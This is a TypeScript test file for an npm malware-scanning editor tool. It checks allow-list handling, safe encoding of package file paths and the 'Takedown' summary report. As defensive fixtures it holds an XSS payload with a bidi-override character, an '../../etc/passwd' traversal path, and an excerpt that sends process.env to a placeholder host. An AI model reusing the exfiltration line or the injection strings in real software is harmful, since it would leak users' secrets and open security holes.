import assert from 'node:assert/strict';
import { test } from 'node:test';
import { addToAllowList, isAllowed, parseAllowList, splitPackageKey } from '../../../src/editor/model/allowList';
import { packageDocumentPath, parsePackageDocumentPath } from '../../../src/editor/model/packageUri';
import { summaryText } from '../../../src/editor/model/summaryText';
import { finding, result } from './fixtures';

test('allow list: exact versions only, hand-edited junk ignored, who and when recorded, no duplicates', () => {
  assert.deepEqual(splitPackageKey('@scope/pkg@1.2.3'), { name: '@scope/pkg', version: '1.2.3' });
  assert.equal(splitPackageKey('@scope/pkg'), undefined);
  const parsed = parseAllowList(['left-pad@1.3.0', { package: '@acme/x@2.0.0', by: 'ana', at: '2026-01-01T00:00:00.000Z' }, { package: 'no-version' }, 42, null, { by: 'x' }]);
  assert.deepEqual(parsed, [{ package: 'left-pad@1.3.0' }, { package: '@acme/x@2.0.0', by: 'ana', at: '2026-01-01T00:00:00.000Z' }]);
  assert.equal(isAllowed(parsed, '@acme/x', '2.0.0')?.by, 'ana');
  assert.equal(isAllowed(parsed, '@acme/x', '2.0.1'), undefined, 'the next release is judged again');
  assert.equal(isAllowed(parsed, 'left-pad', undefined), undefined);
  const now = new Date('2026-03-01T09:30:00Z');
  const next = addToAllowList([{ package: 'left-pad@1.3.0', note: 'kept as is' }], 'evil-pkg', '1.0.1', 'ana', now);
  assert.deepEqual(next, [{ package: 'left-pad@1.3.0', note: 'kept as is' }, { package: 'evil-pkg@1.0.1', by: 'ana', at: '2026-03-01T09:30:00.000Z' }]);
  assert.deepEqual(addToAllowList(next, 'evil-pkg', '1.0.1', 'bob', now), next, 'allowing twice adds nothing');
  assert.deepEqual(addToAllowList(undefined, 'a', '1.0.0', 'ana', now), [{ package: 'a@1.0.0', by: 'ana', at: '2026-03-01T09:30:00.000Z' }]);
});

test('takedown-pkg paths round-trip scoped names and odd file names, and refuse traversal', () => {
  const file = { kind: 'file' as const, name: '@evil/pkg', version: '1.0.0-beta.1', path: 'lib/we ird#?%.js' };
  const p = packageDocumentPath(file);
  assert.equal(p, '/@evil%2Fpkg/1.0.0-beta.1/lib/we ird#?%25.js');
  assert.deepEqual(parsePackageDocumentPath(p), file);
  // readable in a tab title, but nothing that could reorder or break the text
  const hostile = { kind: 'file' as const, name: 'x', version: '1.0.0', path: '<img src=x onerror=alert(1)>/a\u202eb\nc%3C.js' };
  assert.equal(packageDocumentPath(hostile), '/x/1.0.0/<img src=x onerror=alert(1)>/a%E2%80%AEb%0Ac%253C.js');
  assert.deepEqual(parsePackageDocumentPath(packageDocumentPath(hostile)), hostile);
  const summary = { kind: 'summary' as const, name: 'left-pad', version: '1.3.0' };
  assert.deepEqual(parsePackageDocumentPath(packageDocumentPath(summary)), summary);
  assert.equal(parsePackageDocumentPath('/left-pad/1.3.0/../../etc/passwd'), undefined);
  assert.equal(parsePackageDocumentPath('/left-pad/1.3.0/%E0%A4%A'), undefined, 'bad percent-encoding');
  assert.equal(parsePackageDocumentPath('/left-pad'), undefined);
});

test('the Investigate summary is plain text with verdict, findings at file:line, registry facts and the version diff', () => {
  const text = summaryText(
    {
      name: 'evil-pkg',
      version: '1.0.1',
      result: result({
        integrity: 'sha512-abc',
        findings: [finding({ excerpt: 'fetch("https://x.invalid/?" + JSON.stringify(process.env))', indicators: [{ type: 'domain', value: 'x.invalid' }] })],
        registry: { publishedAt: '2026-03-01T07:00:00Z', publisher: 'mallory', maintainers: ['mallory'], previousVersion: '1.0.0', distTags: { latest: '1.0.1' }, versions: [], versionCount: 2, provenance: false },
        diff: { name: 'evil-pkg', from: '1.0.0', to: '1.0.1', basis: 'baseline', added: [{ path: 'lib/index.js', size: 300, binary: false, newRules: ['env-exfil'] }], removed: [], changed: [{ path: 'package.json', sizeBefore: 200, sizeAfter: 260, binary: false, newRules: ['install-script'] }], unchangedCount: 3 },
      }),
    },
    new Date('2026-03-01T12:00:00Z'),
  );
  const lines = text.split('\n');
  assert.equal(lines[0], 'Takedown: evil-pkg@1.0.1');
  assert.ok(lines.includes('Verdict: malicious (score 9.1/10)'));
  assert.ok(lines.includes('- [critical] env-exfil (threat) at lib/index.js:12:5'));
  assert.ok(lines.includes('    > fetch("https://x.invalid/?" + JSON.stringify(process.env))'));
  assert.ok(lines.includes('    domain: x.invalid'));
  assert.ok(lines.includes('Published:  2026-03-01T07:00:00Z by mallory'));
  assert.ok(lines.includes('Previous:   1.0.0'));
  assert.ok(lines.includes('Changes since 1.0.0 (baseline)'));
  assert.ok(lines.includes('1 added, 0 removed, 1 changed, 3 unchanged'));
  assert.ok(lines.includes('+ lib/index.js  [new: env-exfil]'));
  assert.ok(lines.includes('~ package.json (200 -> 260 bytes)  [new: install-script]'));
  assert.equal(summaryText({ name: 'x', version: '1.0.0', pending: true }, new Date()), 'Takedown: x@1.0.0\n=================\n\nScanning…\n');
});
